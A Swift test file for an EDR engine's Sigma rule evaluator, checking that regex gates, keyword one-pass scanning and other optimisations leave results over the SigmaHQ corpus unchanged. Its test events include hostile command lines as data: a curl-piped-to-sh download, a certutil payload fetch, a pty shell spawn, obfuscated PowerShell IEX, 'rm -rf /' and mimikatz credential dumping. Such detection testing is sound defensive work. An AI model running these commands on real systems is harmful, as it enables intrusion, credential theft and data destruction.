import EDRCore
import EDRRegex
@testable import EDRSigma
import Foundation
import Testing

/// The literal a regex's every match holds (`RegexLiteral`), and the gate the engine builds
/// from it: a rule with only regexes waits for the literal instead of running for every event,
/// and no result changes.
struct RegexGateTests {
    private func lit(_ p: String, caseless: Bool = false) -> String? {
        RegexLiteral.required(p, caseless: caseless).map { String(decoding: $0, as: UTF8.self) }
    }

    @Test func literalsTheMatchMustHold() {
        #expect(lit(#"ipconfig\s+/all"#) == "ipconfig")
        #expect(lit(#"net\s+config"#) == "config")
        #expect(lit(#"\.exe\b"#) == ".exe")
        #expect(lit(#"Invoke-Mimikatz"#) == "invoke-mimikatz")  // folded like event values
        #expect(lit(#"abcd?efgh"#) == "efgh")  // d is optional: "abc" and "efgh" are the runs
        #expect(lit(#"abcd+efg"#) == "abcd")  // d at least once: "abcd", then "efg"
        #expect(lit(#"abcd{2}efg"#) == "abcd")
        #expect(lit(#"abcd{0,2}efgh"#) == "efgh")
        #expect(lit(#"abcd*"#) == "abc")
        #expect(lit(#"(?:powershell)\s+-enc"#) == "powershell")  // a group that must match
        #expect(lit(#"(?:powershellx)?\s+-enco"#) == "-enco")  // an optional group adds nothing
        #expect(lit(#"(?:powershell|pwsh)\.exe"#) == ".exe")  // an alternation inside a group adds nothing
        #expect(lit(#"(?=longlookahead)abc"#) == "abc")  // lookarounds are skipped
        #expect(lit(#"\x41\x42CDEF"#) == "cdef")  // escape digits are not literal characters
        #expect(lit(#"\x{41}BCDE"#) == "bcde")
        #expect(lit(#"\p{L}wxyz"#) == "wxyz")
        #expect(lit(#"\pLwxyz"#) == "wxyz")
        #expect(lit(#"[abc]defg[hij]"#) == "defg")
        #expect(lit(#"[]abc]defg"#) == "defg")  // ] first in a class is a member
        #expect(lit(#"a\n\n\nb"#) == "a\n\n\nb")
        #expect(lit(#"C:\\Windows\\"#) == #"c:\windows\"#)
        #expect(lit(#"ÄBCD"#) == "äbcd")  // non-ASCII folds per scalar, as event values do
    }

    @Test func shorterLiteralsWhenAsked() {
        func short(_ p: String, caseless: Bool = false) -> String? {
            RegexLiteral.required(p, caseless: caseless, minLength: 1).map { String(decoding: $0, as: UTF8.self) }
        }
        #expect(short(#"(?i)(?:set).*&&\s?set.*"#) == "&&")  // s breaks "set" under caseless matching; "&&" is rarer than "et"
        #expect(short(#"\w+`(?:\w+|-|.)`[\w+|\s]"#) == "`")
        #expect(short(#"(?i)\$\{`?e`?n`?v"#) == "${")
        #expect(short(#"a.b*"#) == "a")
        #expect(short(#"\d+\s\w"#) == nil)
        #expect(short(#"ab|cd"#) == nil)
    }

    @Test func noLiteralWhenNoneIsCertain() {
        #expect(lit(#"abc|def"#) == nil)  // alternation at the top
        #expect(lit(#"ab.cd"#) == nil)  // runs shorter than 3
        #expect(lit(#"(?x) a b c d e"#) == nil)  // extended mode: spaces mean nothing
        #expect(lit(#"\Qabcdef\E"#) == nil)
        #expect(lit(#"(abc)\1defg"#) == nil)  // back references are not understood
        #expect(lit(#"abc)"#) == nil)
        #expect(lit(#"*abc"#) == nil)
    }

    @Test func caselessMatchingKeepsOnlyCharactersWithoutUnicodeCaseMates() {
        // Caseless PCRE2 in UTF mode matches s with U+017F and k with U+212A, which fold to
        // neither: those characters break the literal.
        #expect(lit(#"netsh\s+wlan"#, caseless: true) == "wlan")
        #expect(lit(#"(?i)netsh\s+wlan"#) == "wlan")
        #expect(lit(#"(?i)mimikatz"#) == "mimi")
        #expect(lit(#"ÄBCDE"#, caseless: true) == "bcde")
        #expect(lit(#"netsh\s+wlan"#) == "netsh")  // case-sensitive: s stays
    }

    @Test func theGateMakesRegexRulesCandidatesAndChangesNoResult() throws {
        let det = """
            selection:
                CommandLine|re|i: 'netsh\\s+wlan\\s+show'
            condition: selection
            """
        let on = engine(ruleYAML(det)),
            off = engine(
                ruleYAML(det),
                options: {
                    var o = SigmaOptions(); o.regexGates = false; return o
                }())
        #expect(on.unitSummary.first?.unanchored == 0)  // waits for the literal
        #expect(off.unitSummary.first?.unanchored == 1)  // evaluated for every event
        for cmd in [
            "netsh wlan show profiles", "NETSH   WLAN SHOW profile", "netſh wlan show", "netsh wlan shoW", "NETſH WLAN ſHOW",
            "netsh wlan", "wlan show netsh", "ipconfig /all"
        ] {
            let e = ev([("CommandLine", .string(cmd))])
            let ungated = !off.evaluate(e).isEmpty
            #expect(!on.evaluate(e).isEmpty == ungated, "\(cmd)")
            // The reference: PCRE2 itself.
            let re = try #require(try? PCREPattern(#"netsh\s+wlan\s+show"#, options: [.utf, .caseless]))
            #expect(ungated == cmd.utf8.withContiguousStorageIfAvailable { re.matches($0, PCREMatchData().pointer) }!, "\(cmd)")
        }
    }

    /// The whole SigmaHQ Linux and Windows corpus with and without gates, over the event mix and
    /// command lines made to hit gated regexes (each with its case changed): the same matches.
    @Test func theCorpusMatchesTheSameWithAndWithoutGates() throws {
        let root = corpusRoot() + "/sigmahq/rules"
        try #require(FileManager.default.fileExists(atPath: root + "/windows"), "corpus missing at \(root)")
        let paths = [root + "/linux", root + "/windows"]
        let on = try SigmaEngine.load(paths: paths)
        var o = SigmaOptions(); o.regexGates = false
        let off = try SigmaEngine.load(paths: paths, options: o)
        let unanchoredOn = on.unitSummary.reduce(0) { $0 + $1.unanchored }, unanchoredOff = off.unitSummary.reduce(0) { $0 + $1.unanchored }
        #expect(unanchoredOn < unanchoredOff, "gates anchor regex-only rules: \(unanchoredOn) vs \(unanchoredOff)")
        // Literals of one or two bytes gate too: of Windows process_creation's rules only two
        // are evaluated for every event, both made of negations only (an image without a path,
        // one without a known extension); four regex rules were too, on `&&`, `${`, `-f` and a
        // backtick.
        let proc = on.unitSummary.first { $0.logsource == LogSource(product: "windows", category: "process_creation") }
        #expect(proc?.unanchored == 2, "\(proc?.unanchored ?? -1) unanchored")
        var events = SigmaEventMix.events(count: 3000, windows: true)
        let lines = [
            "ipconfig /all", "IPCONFIG   /ALL", "net config workstation", "route print", "arp -a", "nbtstat -n",
            #"cmd /c set a=1&&set b=invoke&&echo ""#, #"c:\x\wsass.exe "c:\windows\system32\werfaultsecure.exe" 652"#,
            "powershell ${e`Nv:pATh}", #"powershell "{0}{1}" -f 'a','b'"#, "powershell i`E`x(New-Object Net.WebClient)",
            "certutil -urlcache -split -f http://x/a.exe",
            "bash -c 'curl http://198.51.100.7/x.sh | sh'", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"
        ]
        for (k, line) in lines.enumerated() {
            for variant in [line, line.uppercased(), line.lowercased()] {
                events.append(
                    Event(
                        logsource: LogSource(product: "windows", category: "process_creation"), timestamp: Double(k),
                        fields: [("Image", #"C:\Windows\System32\cmd.exe"#), ("CommandLine", .string(variant))]))
                events.append(
                    Event(
                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: Double(k),
                        fields: [("Image", "/usr/bin/bash"), ("CommandLine", .string(variant))]))
            }
        }
        var total = 0
        for e in events {
            let a = on.evaluate(e).map { $0.rule.path }.sorted(), b = off.evaluate(e).map { $0.rule.path }.sorted()
            #expect(a == b, "\(e.logsource) \(e["CommandLine"].map { "\($0)" } ?? "")")
            total += a.count
        }
        #expect(total > 100, "the events hit rules: \(total) matches")
    }
}

/// Keyword literals scanned in one pass over an event's NUL-separated folded values: the same
/// results as one scan per value, and no match across two values.
struct KeywordPassTests {
    private func both(_ yaml: String) -> (on: SigmaEngine, off: SigmaEngine) {
        var o = SigmaOptions()
        o.keywordOnePass = false
        return (engine(yaml), engine(yaml, options: o))
    }

    @Test func noMatchAcrossTwoValuesOrArrayElements() {
        let det = """
            keywords:
                - 'sekurlsa::'
                - 'rm -rf /'
            condition: keywords
            """
        let (on, off) = both(ruleYAML(det))
        let cases: [([(String, FieldValue)], Bool)] = [
            ([("CommandLine", "mimikatz sekurlsa::logonpasswords")], true),
            ([("A", "x sekur"), ("B", "lsa:: y")], false),  // the literal only across two fields
            ([("A", .array(["rm -rf", " /"]))], false),  // across two array elements
            ([("A", .array(["x", "SUDO RM -RF /tmp"]))], true),  // folded, in the second element
            ([("A", 12), ("B", "a\u{0}rm -rf /")], true),  // a NUL inside a value is just a byte
            ([("A", "rm -rf"), ("B", .null), ("C", " /")], false)
        ]
        for (fields, expected) in cases {
            #expect(!on.evaluate(ev(fields)).isEmpty == expected, "\(fields)")
            #expect(!off.evaluate(ev(fields)).isEmpty == expected, "\(fields)")
        }
    }

    /// Integers are left out of the one pass only when no keyword literal could lie in their
    /// digits; a digit-only literal (`0`, `-42`) keeps them in, and a field test on an integer
    /// in the same unit still sees it after the pass skipped it.
    @Test func integersAreLeftOutOnlyWhenNoLiteralCanBeInTheirDigits() {
        func unit(_ e: SigmaEngine) -> CompiledUnit? { e.units.first { $0.logsource == procLS } }
        let words = engine(ruleYAML("keywords:\n    - 'pid=42'\n    - 'evil'\ncondition: keywords"))
        #expect(unit(words)?.keywordSkipsInts == true)
        #expect(words.evaluate(ev([("ProcessId", 42), ("A", "x")])).isEmpty)
        #expect(!words.evaluate(ev([("ProcessId", 42), ("A", "PID=42")])).isEmpty)

        let digits = engine(ruleYAML("keywords:\n    - '-42'\n    - 'evil'\ncondition: keywords"))
        #expect(unit(digits)?.keywordSkipsInts == false)
        #expect(!digits.evaluate(ev([("ProcessId", -420)])).isEmpty)
        #expect(digits.evaluate(ev([("ProcessId", 420)])).isEmpty)

        // Two rules in one unit: one with a single digit, so integers stay in the pass.
        let mixed = SigmaEngine.load(sources: [
            (name: "a.yml", yaml: ruleYAML("keywords:\n    - 'abc'\ncondition: keywords")),
            (name: "b.yml", yaml: ruleYAML("keywords:\n    - '7'\ncondition: keywords", id: "00000000-0000-0000-0000-000000000002"))
        ])
        #expect(unit(mixed)?.keywordSkipsInts == false)
        #expect(mixed.evaluate(ev([("ProcessId", 1017)])).map(\.rule.id) == ["00000000-0000-0000-0000-000000000002"])

        // A keyword rule beside field tests on the integer the pass left out.
        let fields = SigmaEngine.load(sources: [
            (name: "a.yml", yaml: ruleYAML("keywords:\n    - 'evil'\ncondition: keywords")),
            (
                name: "b.yml",
                yaml: ruleYAML(
                    "selection:\n    ProcessId|contains: '24'\n    Image|endswith: '/x'\ncondition: selection",
                    id: "00000000-0000-0000-0000-000000000002")
            ),
            (
                name: "c.yml",
                yaml: ruleYAML("selection:\n    ParentProcessId: 1\n    Image|endswith: '/x'\ncondition: selection", id: "00000000-0000-0000-0000-000000000003")
            )
        ])
        #expect(unit(fields)?.keywordSkipsInts == true)
        let fired = fields.evaluate(ev([("Image", "/bin/x"), ("ProcessId", 4242), ("ParentProcessId", 1), ("CommandLine", "x evil")]))
        #expect(fired.compactMap(\.rule.id).sorted() == (1...3).map { "00000000-0000-0000-0000-00000000000\($0)" })
    }

    @Test func theCorpusMatchesTheSameInOnePass() throws {
        var o = SigmaOptions()
        o.keywordOnePass = false
        try compareOnCorpus(off: o) { on, off in
            #expect(on.units.filter(\.keywordOnePass).count >= 3, "units with keyword rules scan in one pass")
            #expect(off.units.filter(\.keywordOnePass).isEmpty)
        }
    }

    /// `product: linux` alone compiled into each narrower Linux unit (auditd, process_creation,
    /// ...) and `product: windows` into each Windows one: the same matches, each once.
    @Test func theCorpusMatchesTheSameWithBroaderRulesFoldedIn() throws {
        var o = SigmaOptions()
        o.foldBroaderUnits = false
        try compareOnCorpus(off: o) { on, off in
            let linux = LogSource(product: "linux"), auditd = LogSource(product: "linux", service: "auditd")
            let proc = LogSource(product: "linux", category: "process_creation")
            #expect(on.route(auditd).map { on.units[$0].logsource } == [auditd], "one unit for auditd records")
            #expect(on.route(proc).map { on.units[$0].logsource } == [proc])
            #expect(Set(off.route(auditd).map { off.units[$0].logsource }) == [linux, auditd], "two units without folding")
            // A logsource no narrower unit takes still goes to the broader one.
            let other = LogSource(product: "linux", category: "no_such_category")
            #expect(on.route(other).map { on.units[$0].logsource } == [linux])
        }
    }

    /// Long `contains` literals found by skipping over text (`SkipScanner`) instead of an
    /// automaton step per byte: the same matches; Windows' `product: windows` keyword rule
    /// (mimikatz's keywords, over every value of every Windows event) is among them.
    @Test func theCorpusMatchesTheSameWithSkippingScans() throws {
        var o = SigmaOptions()
        o.skipScan = false
        try compareOnCorpus(off: o) { on, off in
            let skipping = on.units.reduce(0) { $0 + $1.groups.filter { $0.skip != nil }.count }
            #expect(skipping >= 20, "\(skipping) literal groups scan by skipping")
            #expect(off.units.allSatisfy { u in u.groups.allSatisfy { $0.skip == nil } })
            let proc = LogSource(product: "windows", category: "process_creation")
            let unit = on.units.first { $0.logsource == proc }
            #expect(unit.map { $0.keywordOnePass && $0.fieldSkipCount[Int($0.keywordSlot)] == 1 } == true, "the keyword pass skips")
        }
    }

    /// A selection's list of literals on one field evaluated as one node (`literalSets`): the
    /// same matches; Windows process_creation holds hundreds of such lists.
    @Test func theCorpusMatchesTheSameWithLiteralSets() throws {
        var o = SigmaOptions()
        o.literalSets = false
        try compareOnCorpus(off: o) { on, off in
            let proc = LogSource(product: "windows", category: "process_creation")
            func sets(_ e: SigmaEngine) -> (any: Int, all: Int) {
                guard let u = e.units.first(where: { $0.logsource == proc }) else { return (0, 0) }
                let ops = u.nodes.map(\.op)
                return (ops.filter { $0 == 6 }.count, ops.filter { $0 == 7 }.count)
            }
            #expect(sets(on).any >= 200, "\(sets(on)) literal sets")
            #expect(sets(on).all >= 5, "\(sets(on)) literal sets")
            #expect(sets(off).any == 0 && sets(off).all == 0)
        }
    }

    /// A field's prefix, exact and suffix literals matched by its `contains` automaton
    /// (`anchoredInAutomaton`): the same matches over the corpus, and Windows process_creation's
    /// command line and image fields have no trie walk of their own left.
    @Test func theCorpusMatchesTheSameWithAnchoredLiteralsInAutomata() throws {
        var o = SigmaOptions()
        o.anchoredInAutomaton = false
        try compareOnCorpus(off: o) { on, off in
            let proc = LogSource(product: "windows", category: "process_creation")
            func kinds(_ e: SigmaEngine, _ field: String) -> [UInt8] {
                guard let u = e.units.first(where: { $0.logsource == proc }), let f = u.fieldIndex[field] else { return [] }
                return u.fieldGroupList[Int(f)].map { u.groups[Int($0)].kind }.sorted()
            }
            for field in ["CommandLine", "Image", "ParentImage"] {
                #expect(kinds(on, field) == [0], "\(field): \(kinds(on, field))")
                #expect(kinds(off, field) == [0, 1, 2], "\(field): \(kinds(off, field))")
            }
        }
    }

    /// Prefix, exact and suffix literals in one automaton with `contains` ones: a hit counts only
    /// where its mode puts it, at the value's start, end or both, with the literal also found
    /// elsewhere in the value, in each element of a list, and after a non-ASCII prefix.
    @Test func anchoredLiteralsInAnAutomatonHoldOnlyWhereTheirModeSays() throws {
        func rule(_ id: String, _ selection: String) -> (name: String, yaml: String) {
            (
                "\(id).yml",
                """
                title: \(id)
                id: \(id)
                logsource: {product: windows, category: process_creation}
                detection:
                  sel:
                    \(selection)
                  condition: sel
                level: high
                """
            )
        }
        let sources = [
            rule("ends", "Image|endswith: '\\cmd.exe'"),
            rule("starts", "Image|startswith: 'c:\\win'"),
            rule("exact", "Image: 'C:\\Tools\\cmd.exe'"),
            rule("short", "Image|contains: 'zq'"),  // a literal too short to skip: the field gets an automaton
            rule("windows", "Image|contains: '\\windows\\'")
        ]
        var o = SigmaOptions()
        let on = SigmaEngine.load(sources: sources)
        o.anchoredInAutomaton = false
        let off = SigmaEngine.load(sources: sources, options: o)
        let proc = LogSource(product: "windows", category: "process_creation")
        let unit = try #require(on.units.first { $0.logsource == proc })
        #expect(unit.fieldGroupList[Int(unit.fieldIndex["Image"]!)].map { unit.groups[Int($0)].kind } == [0])
        let cases: [(FieldValue, Set<String>)] = [
            ("c:\\tools\\cmd.exe", ["ends", "exact"]),
            ("c:\\tools\\cmd.exe2", []),
            ("c:\\cmd.exe\\cmd.exe", ["ends"]),
            ("c:\\cmd.exe\\x", []),
            ("x c:\\win", []),
            ("C:\\Windows\\System32\\cmd.exe", ["starts", "windows", "ends"]),
            ("c:\\win", ["starts"]),
            ("é c:\\windows\\cmd.exe", ["windows", "ends"]),
            ("zq\\cmd.exe", ["short", "ends"]),
            (.array(["c:\\tools\\cmd.exe", "d:\\x", "c:\\winx"]), ["ends", "exact", "starts"]),
            (.array(["d:\\x", "y\\cmd.exe.bak"]), [])
        ]
        for (value, expected) in cases {
            let e = Event(logsource: proc, timestamp: 0, fields: [("Image", value), ("CommandLine", "x")])
            let got = Set(on.evaluate(e).map { $0.rule.title })
            #expect(got == expected, "\(value)")
            #expect(Set(off.evaluate(e).map { $0.rule.title }) == expected, "\(value) with tries")
        }
    }

    /// SigmaHQ's Linux and Windows rules loaded with the default options and with `off`: the
    /// same rules match each event of the mix and of auditd-, syslog- and process-shaped
    /// events holding the builtin rules' keywords, whole and split across two fields; each
    /// matching rule is reported once.
    private func compareOnCorpus(off o: SigmaOptions, _ check: (SigmaEngine, SigmaEngine) -> Void) throws {
        let root = corpusRoot() + "/sigmahq/rules"
        try #require(FileManager.default.fileExists(atPath: root + "/linux"), "corpus missing at \(root)")
        let paths = [root + "/linux", root + "/windows"]
        let on = try SigmaEngine.load(paths: paths)
        let off = try SigmaEngine.load(paths: paths, options: o)
        check(on, off)
        var events = SigmaEventMix.events(count: 3000, windows: true)
        // auditd- and syslog-shaped events with the builtin rules' keywords, whole and split.
        let texts = [
            "attempt to execute code on stack by", "rm -rf /", "sekurlsa::logonpasswords", "privilege::debug", "grep password",
            "type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59", "segfault at 0000 ip", "FAILED su for root by user"
        ]
        for (k, t) in texts.enumerated() {
            let half = t.index(t.startIndex, offsetBy: t.count / 2)
            for ls in [
                LogSource(product: "linux", service: "auditd"), LogSource(product: "linux", service: "syslog"),
                LogSource(product: "linux", category: "process_creation"), LogSource(product: "windows", category: "process_creation")
            ] {
                events.append(Event(logsource: ls, timestamp: Double(k), fields: [("type", "EXECVE"), ("a0", .string(t)), ("pid", 42)]))
                events.append(Event(logsource: ls, timestamp: Double(k), fields: [("a0", .string(String(t[..<half]))), ("a1", .string(String(t[half...])))]))
                events.append(Event(logsource: ls, timestamp: Double(k), fields: [("CommandLine", .string(t.uppercased())), ("Image", "/bin/x")]))
            }
        }
        let (total, differences) = SigmaEventMix.compare(on, off, on: events)
        #expect(differences.isEmpty, "\(differences.count) events differ: \(differences.prefix(5))")
        #expect(total > 100, "the events hit rules: \(total) matches")
    }
}
